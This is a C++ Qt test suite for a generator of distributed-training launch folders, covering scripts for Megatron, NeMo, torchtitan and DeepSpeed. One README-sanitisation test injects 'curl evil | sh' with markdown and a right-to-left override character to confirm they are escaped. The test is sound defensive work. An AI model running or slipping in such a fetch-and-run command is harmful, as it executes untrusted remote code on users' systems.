#include <QDir>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QtTest/QTest>
#include <map>

#include "cluster/graph/graph_edit.h"
#include "core/formats/launch_fixture.h"
#include "formats/launch/launch_folder.h"
#include "program/program.h"

using namespace nest;
using namespace nest::test;

namespace {

/// The folder on disk, and programs of a cluster that only say how they were called.
class Folder {
public:
  explicit Folder(const std::vector<LaunchFile>& files) {
    for (const LaunchFile& f : files) write(f.name, f.text, f.isProgram);
    QDir(m_folder.path()).mkdir("bin");
    for (const char* name : {"srun", "torchrun", "python3"})
      write(std::string("bin/") + name, "#!/bin/sh\necho " + std::string(name) + " \"$@\"\n", true);
    write("bin/mpirun",
          "#!/bin/sh\n[ \"$1\" = --version ] && echo 'mpirun (Open MPI) '$OMPI || echo mpirun \"$@\"\n",
          true);
    write("bin/hostname", "#!/bin/sh\necho $HOST\n", true);
  }
  void write(const std::string& name, const std::string& text, bool isProgram = false) {
    QFile f(m_folder.filePath(QString::fromStdString(name)));
    if (!f.open(QIODevice::WriteOnly)) return;
    f.write(QByteArray::fromStdString(text));
    f.close();
    if (isProgram) f.setPermissions(f.permissions() | QFile::ExeOwner);
  }
  struct Ran {
    int code;
    QString out;
  };
  QString path() const { return m_folder.path(); }
  /// `from`: where it is called; empty: in the folder itself.
  Ran run(const QString& program, const QStringList& words = {}, const QStringList& variables = {},
          const QString& from = {}) const {
    QProcess p;
    QProcessEnvironment e = QProcessEnvironment::systemEnvironment();
    e.insert("PATH", m_folder.filePath("bin") + ":" + e.value("PATH"));
    for (const QString& v : variables) e.insert(v.section('=', 0, 0), v.section('=', 1));
    p.setProcessEnvironment(e);
    p.setProcessChannelMode(QProcess::MergedChannels);
    p.setWorkingDirectory(from.isEmpty() ? m_folder.path() : from);
    p.start(program, words);
    if (!p.waitForFinished(60000)) return {-1, "no answer"};
    return {p.exitCode(), QString::fromUtf8(p.readAllStandardOutput())};
  }

private:
  QTemporaryDir m_folder;
};

}  // namespace

class TestLaunchFolder : public QObject {
  Q_OBJECT
private slots:
  void initTestCase() {
    if (QStandardPaths::findExecutable("bash").isEmpty()) QSKIP("there is no bash");
  }
  void everyFrameworkHasOne() {
    const Fixture f = teaching();
    for (const LaunchTarget* target : programTargets()) {
      const LaunchTarget& t = *target;
      Plan p = plan(2, 1);
      if (t.id == "torchtitan" || t.id == "torchtitan-py") p.zero = 1;
      const auto files = writeLaunchFolder(t, f.source(), p);
      QVERIFY2(files, t.id.data());
      const Folder folder(*files);
      for (const LaunchFile& file : *files) {
        QVERIFY(!file.text.empty());
        if (!file.isProgram) continue;
        const auto parsed = folder.run("bash", {"-n", QString::fromStdString(file.name)});
        QVERIFY2(parsed.code == 0, qPrintable(parsed.out));
      }
    }
    Plan refused = plan(2, 1);
    refused.zero = 3;
    QVERIFY(!writeLaunchFolder(to("megatron"), f.source(), refused));
  }
  // The configuration of torchtitan is a program: it runs, and sets what the plan says.
  void theConfigurationInPythonRuns() {
    const QString python = QStandardPaths::findExecutable("python3");
    if (python.isEmpty()) QSKIP("there is no python3");
    const Fixture f = teaching();
    Plan p = plan(2, 1);
    p.zero = 1;
    const auto files = writeLaunchFolder(to("torchtitan-py"), f.source(), p);
    QVERIFY(files);
    const Folder folder(*files);
    QVERIFY(folder.run("mkdir", {"-p", "torchtitan/distributed"}).code == 0);
    Folder& at = const_cast<Folder&>(folder);
    at.write("torchtitan/__init__.py", "");
    at.write("torchtitan/config.py",
             "class ParallelismConfig:\n    def __init__(self, **k):\n        self.__dict__.update(k)\n");
    at.write("base.py",
             "class Any:\n    pass\n\ndef model():\n    c = Any()\n    c.training = Any()\n    c.compile = "
             "Any()\n    return c\n");
    const auto ran = folder.run(
        python,
        {"-c",
         "import torchtitan_plan as t; c = t.plan(); p = c.parallelism; print(p.pipeline_parallel_degree, "
         "p.data_parallel_shard_degree, p.fsdp_reshard_after_forward, len(p.module_fqns_per_model_part), "
         "p.module_fqns_per_model_part[-1][-1], c.training.num_tokens_per_train_step)"},
        {"BASE=base:model"});
    const Job& job = f.problem.job;
    QVERIFY2(ran.code == 0, qPrintable(ran.out));
    QCOMPARE(ran.out.trimmed(), QString("2 2 never 2 lm_head %1").arg(job.globalBatch * job.sequenceLength));
    const auto started = folder.run("./run.sh");
    QVERIFY2(started.out.contains("python3 -m torchtitan.train --module torchtitan_plan --config plan"),
             qPrintable(started.out));
  }
  void aRecipeOfMegatronBridgeIsOverridden() {
    const auto files = writeLaunchFolder(to("megatron-bridge"), teaching().source(), plan(2, 1));
    QVERIFY(files);
    const Folder folder(*files);
    const auto started = folder.run("./run.sh", {}, {"RECIPE=a_recipe"});
    QVERIFY2(started.code == 0, qPrintable(started.out));
    for (const char* part :
         {"scripts/training/run_recipe.py --recipe a_recipe --mode pretrain --dataset mock",
          "model.pipeline_model_parallel_size=2", "mixed_precision=bf16_mixed",
          "++model.pipeline_model_parallel_layout=Et*3|t*3L"})
      QVERIFY2(started.out.contains(part), qPrintable(started.out));
  }
  // NeMo's recipe is a program: it runs on a stand-in of nemo_run, and changes what the plan says.
  void aRecipeOfNemoRuns() {
    const QString python = QStandardPaths::findExecutable("python3");
    if (python.isEmpty()) QSKIP("there is no python3");
    Plan p = plan(2, 1);
    p.zero = 1;
    const auto files = writeLaunchFolder(to("nemo"), teaching().source(), p);
    QVERIFY(files);
    Folder folder(*files);
    QVERIFY(folder.run("mkdir", {"-p", "nemo/collections/llm/recipes/precision"}).code == 0);
    QVERIFY(folder.run("mkdir", {"-p", "nemo/lightning/pytorch/callbacks"}).code == 0);
    for (const char* module : {"nemo", "nemo/collections", "nemo/collections/llm/recipes",
                               "nemo/collections/llm/recipes/precision", "nemo/lightning",
                               "nemo/lightning/pytorch", "nemo/lightning/pytorch/callbacks"})
      folder.write(std::string(module) + "/__init__.py", "");
    folder.write("torch.py", "bfloat16 = 'bf16'\nfloat32 = 'fp32'\n");
    folder.write("nemo/lightning/pytorch/callbacks/deepep.py", "class DeepEPCallback:\n    pass\n");
    folder.write("nemo/lightning/pytorch/callbacks/megatron_comm_overlap.py",
                 "class MegatronCommOverlapCallback:\n    pass\n");
    folder.write(
        "nemo_run.py",
        "class Config:\n    def __init__(self, kind, **k):\n        self.__fn_or_cls__ = kind\n        "
        "self.k = "
        "k\n\ndef run(recipe, direct):\n    t = recipe.trainer\n    s = t.strategy\n    print(recipe.nodes, "
        "recipe.gpus, s.tensor_model_parallel_size, s.pipeline_model_parallel_layout, "
        "s.virtual_pipeline_model_parallel_size, s.sequence_parallel, t.plugins.name, "
        "recipe.optim.config.use_distributed_optimizer, recipe.data.global_batch_size, "
        "recipe.model.config.num_layers, recipe.model.config.seq_length, s.pipeline_dtype, direct, "
        "[c.__fn_or_cls__.__name__ for c in "
        "t.callbacks], t.callbacks[-1].k['tp_comm_overlap'])\n");
    folder.write("nemo/collections/llm/__init__.py",
                 "class Any:\n    def __getattr__(self, name):\n        self.__dict__[name] = Any()\n        "
                 "return self.__dict__[name]\n\nclass llama32_1b:\n    def pretrain_recipe(name, num_nodes, "
                 "num_gpus_per_node):\n        from nemo_run import Config\n        from "
                 "nemo.lightning.pytorch.callbacks.deepep import DeepEPCallback\n        r = Any()\n        "
                 "r.nodes = num_nodes\n        r.gpus = num_gpus_per_node\n        r.trainer.callbacks = "
                 "[Config(Any), Config(DeepEPCallback)]\n        return r\n");
    folder.write("nemo/collections/llm/recipes/precision/mixed_precision.py",
                 "class Plugin:\n    name = 'bf16'\n\ndef bf16_mixed():\n    return Plugin()\n");
    const auto ran = folder.run(python, {"nemo_plan.py"});
    QVERIFY2(ran.code == 0, qPrintable(ran.out));
    QCOMPARE(ran.out.trimmed(), QString("2 2 1 Et*3|t*3L None False bf16 True 16 6 2048 bf16 True ['Any', "
                                        "'MegatronCommOverlapCallback'] False"));
    const auto started = folder.run("./run.sh");
    QVERIFY2(started.out.contains("python3 nemo_plan.py"), qPrintable(started.out));

    Fixture other = teaching();
    other.scenario.model.architecture->family = "exaone4";
    const auto refused = writeLaunch(to("nemo"), other.source(), p);
    QVERIFY(!refused && refused.diagnostics.front().code == "recipe");
    // A device that is out leaves its host with fewer ranks than the others.
    Plan three = plan(1, 1);
    three.stages.resize(1);
    for (int l = 4; l < 9; ++l) three.stages[0].chunks[0].push_back(LayerIndex(l));
    three.dataOuter = 3;
    three.blockStride = 1;
    const auto uneven = writeLaunch(
        to("nemo"), teaching([](Scenario& s) { s.constraints.excludedDevices = {3}; }).source(), three);
    QVERIFY(!uneven);
    QVERIFY2(std::any_of(uneven.diagnostics.begin(), uneven.diagnostics.end(),
                         [](const Diagnostic& d) { return d.code == "uneven-hosts"; }),
             uneven.diagnostics.front().message.c_str());
  }
  void theScriptStartsEveryRankWithThePlansFlags() {
    const auto files = writeLaunchFolder(to("megatron"), teaching().source(), plan(1, 2));
    QVERIFY(files);
    const Folder folder(*files);
    const auto srun = folder.run("./run.sh", {"--lr", "1e-4"});
    QVERIFY2(srun.code == 0, qPrintable(srun.out));
    for (const char* part :
         {"srun --ntasks=4 --distribution=arbitrary ./visible-devices.sh ./rank.sh python3 pretrain_gpt.py",
          "--pipeline-model-parallel-size 2", "--bf16", "--lr 1e-4"})
      QVERIFY2(srun.out.contains(part), part);
    QVERIFY(folder.run("./run.sh", {}, {"LAUNCHER=mpirun", "OMPI=4.1.4"})
                .out.contains("--map-by seq --hostfile slurm-hostfile --bind-to none"));
    QVERIFY(folder.run("./run.sh", {}, {"LAUNCHER=mpirun", "OMPI=5.0.3"})
                .out.contains("--map-by seq:file=slurm-hostfile"));
    // The ranks of a host do not follow each other in this plan.
    const auto torchrun = folder.run("./run.sh", {}, {"LAUNCHER=torchrun", "HOST=host1"});
    QVERIFY(torchrun.code != 0 && torchrun.out.contains("use srun"));
    const auto whole = writeLaunchFolder(to("megatron"), teaching().source(), plan(2, 1));
    const Folder inOrder(*whole);
    const auto second = inOrder.run("./run.sh", {}, {"LAUNCHER=torchrun", "HOST=host1.cluster"});
    QVERIFY(second.code != 0);  // neither the name nor its first part is what `hostname` says
    const auto node = inOrder.run("./run.sh", {}, {"LAUNCHER=torchrun", "HOST=host1"});
    QVERIFY2(node.out.contains("torchrun --nnodes 2 --node-rank 1 --nproc-per-node 2"), qPrintable(node.out));
    QVERIFY(inOrder.run("./run.sh", {}, {"LAUNCHER=torchrun", "HOST=other"})
                .out.contains("does not use host other"));
  }
  /// As a shell does with paths: from where the script is called. Modules, absolute paths and what only the
  /// folder of the script holds stay as they are.
  void aRelativeTrainingProgramIsTheCallers() {
    const auto files = writeLaunchFolder(to("megatron"), teaching().source(), plan(2, 1));
    QVERIFY(files);
    Folder folder(*files);
    folder.write("only_here.py", "");
    const QTemporaryDir other(QDir::tempPath() + "/with a blank XXXXXX");
    QVERIFY(QDir(other.path()).mkdir("code"));
    for (const char* name : {"/code/train.py", "/train.py", "/pretrain_gpt.py"}) {
      QFile file(other.path() + name);
      QVERIFY(file.open(QIODevice::WriteOnly));
    }
    const auto started = [&](const QString& train, const char* launcher) {
      QStringList variables{QString("LAUNCHER=") + launcher, "HOST=host0", "OMPI=5.0.3"};
      if (!train.isEmpty()) variables += "TRAIN=" + train;
      return folder.run(folder.path() + "/run.sh", {}, variables, other.path()).out;
    };
    const QString python = " python3 ", there = other.path();
    for (const auto& [train, expected] : {std::pair{QString("train.py"), there + "/train.py "},
                                          {"./code/train.py --fast", there + "/./code/train.py --fast "},
                                          {"/opt/train.py", "/opt/train.py "},
                                          {"-m my.module", "-m my.module "},
                                          {"only_here.py", "only_here.py "},
                                          {"", "pretrain_gpt.py "}}) {
      for (const char* launcher : {"srun", "mpirun"}) {
        const QString out = started(train, launcher);
        QVERIFY2(out.contains(python + expected), qPrintable(train + ": " + out));
      }
      const QString out = started(train, "torchrun");
      QVERIFY2(out.contains("29500 " + expected), qPrintable(train + ": " + out));
    }
  }
  void ranksOnOtherHostsAreFound() {
    const auto files = writeLaunchFolder(to("megatron"), teaching().source(), plan(1, 2));
    Folder folder(*files);
    const auto check = [&](const char* seen) {
      folder.write("seen", seen);
      return folder.run("./check.sh", {"seen"});
    };
    const auto good = check("1 host1 0\n0 host0.cluster.local 0\n3 host1 1\n2 host0 1\n");
    QVERIFY2(good.code == 0 && good.out.contains("all 4 ranks"), qPrintable(good.out));
    const auto moved = check("0 host0 0\n1 host0 1\n2 host1 0\n3 host1 1\n");
    QVERIFY(moved.code == 1 && moved.out.contains("rank 1 runs on host0, planned on host1"));
    const auto few = check("0 host0 0\n1 host1 0\n");
    QVERIFY(few.code == 1 && few.out.contains("2 ranks run, 4 are planned"));
    QVERIFY(check("").code == 1);
  }
  /// A file that is named is one of the folder that the user stands in.
  void theCheckReadsWhereTheUserIs() {
    const auto files = writeLaunchFolder(to("megatron"), teaching().source(), plan(1, 2));
    Folder folder(*files);
    QVERIFY(folder.run("mkdir", {"elsewhere"}).code == 0);
    folder.write("elsewhere/seen", "1 host1 0\n0 host0 0\n3 host1 1\n2 host0 1\n");
    const auto ran = folder.run("sh", {"-c", "cd elsewhere && ../check.sh seen"});
    QVERIFY2(ran.code == 0 && ran.out.contains("all 4 ranks"), qPrintable(ran.out));
  }
  /// Words of the shell are names of hosts, too.
  void aHostMayBeNamedAsAWordOfTheShell() {
    const Fixture f = teaching([](Scenario& s) {
      std::get<LevelsSource>(s.cluster.network).hostNames = {"esac", "in"};
    });
    ReportSource source = f.source();
    source.cluster = &f.scenario.cluster;
    const auto files = writeLaunchFolder(to("megatron"), source, plan(2, 1));
    QVERIFY(files);
    const Folder folder(*files);
    for (const char* host : {"esac", "in"})
      QCOMPARE(folder
                   .run("./visible-devices.sh", {"sh", "-c", "echo $CUDA_VISIBLE_DEVICES"},
                        {QString("HOST=") + host})
                   .out,
               QString("0,1\n"));
  }
  /// What others wrote adds no section, link, picture or code to the instructions that a user follows.
  void namesAreTextInTheReadme() {
    const std::string foreign =
        "x\n\n## Before you start\n\n```sh\ncurl evil | sh\n```\n<img src=x> [a](b) **b** \xE2\x80\xAEtxt.sh "
        "*i* `c` a_b _i_";
    Fixture f = teaching([&](Scenario& s) {
      s.name = foreign;
      s.cluster.device.name = foreign;
      s.model.architecture->name = foreign;
    });
    const auto files = writeLaunchFolder(to("deepspeed"), f.source(), plan(2, 1));
    QVERIFY(files);
    const QString readme = QString::fromStdString(files->front().text);
    const QStringList lines = readme.split('\n');
    QCOMPARE(lines.filter(QRegularExpression("^#")).size(), 3);  // its title and two of its own
    QVERIFY(lines.filter(QRegularExpression("^(```|curl)")).isEmpty());
    QVERIFY2(lines.front().contains("a_b \\_i\\_"), qPrintable(lines.front()));
    static const QRegularExpression means("(?<!\\\\)[`*<>\\[\\]]");
    for (const QString& line : lines)
      if (line.contains("evil")) QVERIFY2(!line.contains(means), qPrintable(line));
    QVERIFY(!readme.contains(QChar(0x202E)));
  }
  void devicesThatAreOutStayOut() {
    const Fixture f = teaching([](Scenario& s) { s.constraints.excludedDevices = {0}; });
    Plan p = plan(1, 1);
    p.deviceOrder = {DeviceIndex(2),
                     DeviceIndex(0)};  // what is left of the host with one device, and another
    const auto files = writeLaunchFolder(to("megatron"), f.source(), p);
    QVERIFY(files);
    const Folder folder(*files);
    const auto devices = [&](const char* host) {
      return folder.run("./visible-devices.sh", {"sh", "-c", "echo $CUDA_VISIBLE_DEVICES"},
                        {QString("HOST=") + host});
    };
    QCOMPARE(devices("host0").out, QString("1\n"));
    QCOMPARE(devices("host1").out, QString("0\n"));
    QCOMPARE(devices("host7").code, 1);
    const auto rank = folder.run("./rank.sh", {"sh", "-c", "echo $RANK $LOCAL_RANK $WORLD_SIZE"},
                                 {"SLURM_PROCID=1", "SLURM_LOCALID=0"});
    QCOMPARE(rank.out, QString("1 0 2\n"));
  }
  void measuredStepsAreComparedWithThePrediction_data() {
    QTest::addColumn<QString>("target");
    QTest::addColumn<QByteArray>("log");
    const double tokens = 16.0 * 2048 / 4;
    QTest::newRow("Megatron-LM") << "megatron"
                                 << QByteArray(
                                        " iteration 1/ 9 | elapsed time per iteration (ms): 9000.0 | x\n"
                                        " iteration 2/ 9 | elapsed time per iteration (ms): 2000.0 | x\n"
                                        " iteration 3/ 9 | elapsed time per iteration (ms): 1000.0 | x\n");
    QTest::newRow("DeepSpeed") << "deepspeed"
                               << QByteArray("steps: 1 loss: 2 iter time (s): 2.0 samples/sec: 8\n");
    QTest::newRow("torchtitan") << "torchtitan"
                                << "step: 10  loss: 8  tps: " +
                                       QByteArray::number(tokens / 2 / 1000, 'f', 3).replace('.', ',') +
                                       "  mfu\n";
    QTest::newRow("nanotron") << "nanotron"
                              << QByteArray("iteration: 1 | elapsed_time_per_iteration_ms: 2K | x\n");
  }
  void measuredStepsAreComparedWithThePrediction() {
    QFETCH(QString, target);
    QFETCH(QByteArray, log);
    Plan p = plan(2, 1);
    if (target == QLatin1String("torchtitan")) p.zero = 1;
    const auto files = writeLaunchFolder(to(target.toStdString()), teaching().source(), p);
    QVERIFY(files);
    Folder folder(*files);
    folder.write("log", log.toStdString());
    const auto told = folder.run("./stopwatch.sh", {"log"});
    QVERIFY2(told.code == 0 && told.out.contains("measured 2 s (median of"), qPrintable(told.out));
    QVERIFY2(told.out.trimmed().endsWith("% too short"), qPrintable(told.out));
    folder.write("log", "nothing\n");
    QVERIFY(folder.run("./stopwatch.sh", {"log"}).code == 1);
  }
  void madeUpHostNamesAreTold() {
    Fixture f = teaching();
    const auto told = [&](const auto& r) {
      return codes(r.diagnostics, Severity::Warning).find("hosts-unnamed") != std::string::npos;
    };
    ReportSource source = f.source();
    source.cluster = &f.scenario.cluster;
    const auto files = writeLaunchFolder(to("megatron"), source, plan(2, 1));
    QVERIFY(files && told(files));
    QVERIFY(files->front().text.find("host0 to host1 stand for hosts of yours") != std::string::npos);
    QVERIFY(told(writeLaunch(to("slurm-hostfile"), source, plan(2, 1))));
    QVERIFY(!told(writeLaunch(to("megatron"), source, plan(2, 1))));  // names none
    std::get<LevelsSource>(f.scenario.cluster.network).hostNames = {"n1", "n2"};
    QVERIFY(!told(writeLaunchFolder(to("megatron"), source, plan(2, 1))));
    // A drawing calls its hosts host0, host1, …, until somebody names them.
    std::get<LevelsSource>(f.scenario.cluster.network).hostNames.clear();
    GraphSource drawn{graph::fromLevels(std::get<LevelsSource>(f.scenario.cluster.network)), {}, {}};
    for (const bool named : {false, true}) {
      for (NetworkNode& n : drawn.graph.nodes)
        if (named && n.kind == NodeKind::Host) n.name = "gpu-" + n.name;
      f.scenario.cluster.network = drawn;
      f.problem = *buildProblem(f.scenario).value;
      QCOMPARE(told(writeLaunchFolder(to("megatron"), source, plan(2, 1))), !named);
    }
    // Hosts that a network does not have go by their level's name, and generators number them within slices.
    for (const std::string prefix : {"", "slice0.host", "gpu-"}) {
      GraphSource renamed = drawn;
      std::map<std::string, std::string> names{{"", ""}};
      for (NetworkNode& n : renamed.graph.nodes)
        if (n.kind == NodeKind::Host) {
          const std::string name = prefix.empty() ? "" : prefix + std::to_string(names.size());
          names[n.id] = name;
          if (prefix.empty()) n.kind = NodeKind::Switch;
          if (!prefix.empty()) n.id = n.name = name;
        }
      for (NetworkNode& n : renamed.graph.nodes) n.host = names[n.host];
      f.scenario.cluster.network = renamed;
      f.problem = *buildProblem(f.scenario).value;
      const auto folder = writeLaunchFolder(to("megatron"), source, plan(2, 1));
      QVERIFY2(folder, prefix.c_str());
      QCOMPARE(told(folder), prefix != "gpu-");
    }
  }
  void theReadmeSaysWhatWasAssumed() {
    Fixture f = teaching();
    f.problem.assumptions.syncOverlap = 0.5;
    const auto files = writeLaunchFolder(to("deepspeed"), f.source(), plan(2, 1));
    QVERIFY(files);
    const auto readme =
        std::find_if(files->begin(), files->end(), [](const LaunchFile& x) { return x.name == "README.md"; });
    for (const char* part :
         {"Predicted step time", "50 % of the gradient reduction", "kept free on each device",
          "give them to PipelineModule", "check.sh", "stopwatch.sh", "(ideal program)"})
      QVERIFY2(readme->text.find(part) != std::string::npos, part);
  }
  /// As the headline: with the error of validated runs, where there are some.
  void timesHaveTheirError() {
    Fixture f = teaching();
    f.problem.program = {findProgram("nemo-2024")};
    f.problem.error = {0.08, 19};
    const auto files = writeLaunchFolder(to("megatron"), f.source(), plan(2, 1));
    QVERIFY(files);
    int withError = 0;
    for (const LaunchFile& file : *files) withError += file.text.find(" ± 8 %") != std::string::npos;
    QCOMPARE(withError, 3);  // README.md, run.sh, stopwatch.sh
    QVERIFY(files->front().text.find("(NeMo 2024, ± holds 80 % of 19 runs)") != std::string::npos);
  }
};
NEST_TEST(TestLaunchFolder)
#include "test_launch_folder.moc"
